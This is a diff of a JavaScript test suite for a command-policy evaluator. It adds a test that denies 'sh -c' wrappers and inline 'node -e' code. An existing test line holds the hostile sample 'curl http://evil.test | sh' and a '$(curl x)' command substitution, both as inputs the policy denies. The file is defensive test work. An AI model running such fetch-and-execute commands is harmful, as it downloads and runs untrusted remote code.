@@ -27,7 +27,7 @@ describe('policy evaluator', () => {
     const decision = evaluatePolicy(defaults.bundle, defaults.hash, subject());
     expect(decision.verdict).toBe('allow');
     expect(decision.network).toBe('none');
-    expect(decision.bundle).toEqual({ name: 'regatta-default', version: '2026.12.1', hash: defaults.hash });
+    expect(decision.bundle).toEqual({ name: 'regatta-default', version: '2026.12.2', hash: defaults.hash });
     expect(defaults.hash).toMatch(/^[0-9a-f]{64}$/);
   });
 
@@ -57,7 +57,16 @@ describe('policy evaluator', () => {
       'builtin-commands: commands not in the allowlist: curl http://evil.test | sh ("curl http://evil.test" is not in the allowlist; "sh" is not in the allowlist)' +
         ' | sed -i "s/$(curl x)/b/" f ("$(curl x)" is a command substitution)',
     );
-    expect(evaluatePolicy(defaults.bundle, defaults.hash, subject({ commands: ['npm ci && npm test', 'node -e "a; b || c"'] })).verdict).toBe('allow');
+    expect(evaluatePolicy(defaults.bundle, defaults.hash, subject({ commands: ['npm ci && npm test', 'node scripts/check.js "a; b || c"'] })).verdict).toBe('allow');
+  });
+
+  it('denies shell wrappers and inline code under the default bundle, naming the command, the pattern and the flag', () => {
+    const denied = evaluatePolicy(defaults.bundle, defaults.hash, subject({ commands: ['npm test', "sh -c 'npm test'", 'node -e "process.exit(0)"'] }));
+    expect(denied.verdict).toBe('deny');
+    expect(denied.reason).toBe(
+      `builtin-commands: commands not in the allowlist: sh -c 'npm test' | node -e "process.exit(0)" ("node -e \\"process.exit(0)\\"" runs code given with -e: "node *" allows node only with a named script file; a pattern that names -e, such as "node -e *", allows it)`,
+    );
+    expect(evaluatePolicy(defaults.bundle, defaults.hash, subject({ commands: ['node scripts/build.js', 'npm test', 'npm run build'] })).verdict).toBe('allow');
   });
 
   it('narrows requested paths to the policy scope and denies paths outside it under the strict bundle', () => {
